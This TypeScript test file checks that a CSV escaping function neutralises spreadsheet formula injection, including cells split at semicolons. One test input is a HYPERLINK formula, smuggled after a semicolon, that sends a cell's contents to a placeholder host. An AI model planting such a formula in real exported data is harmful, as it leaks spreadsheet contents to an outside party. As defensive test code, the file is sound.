import { expect, test } from 'vitest'
import { cell } from './csv.ts'

/** Cells as a spreadsheet takes them that parts at semicolons: to it a quote in the midst of a line is a letter like any other. */
const swedish = (line: string): readonly string[] => line.split(/[;\r\n]/)
const FORMULA = /^ *[=+\-@＝＋－＠]/

test.each([
  ['=1+1', "'=1+1"],
  ['+46701740612', "'+46701740612"],
  ['-1', "'-1"],
  ['@x', "'@x"],
  [' =1', "' =1"],
  ['＝1', "'＝1"],
  ['\tx', "'\tx"],
  ['a;=1', "a;'=1"],
  ['a; =1', "a;' =1"],
  ['a,=1', '"a,=1"'],
  ['a\n=1', '"a\n\'=1"'],
  ['a"b', '"a""b"'],
  ['a-b; c', 'a-b; c'],
  ['', ''],
  [null, ''],
  [-1, '-1'],
] as const)('%j is written %j', (value, written) => expect(cell(value)).toBe(written))

test('parted at commas or at semicolons, in a line of others, nothing begins as a formula does', () => {
  for (const value of ['x;=HYPERLINK("http://a/?"&A1)', 'x;@y', 'x\r\n=1;+2;-3', '";=1', '\t=1'])
    for (const part of swedish(`c1,${cell(value)},end`)) expect([value, part, FORMULA.test(part)]).toEqual([value, part, false])
})
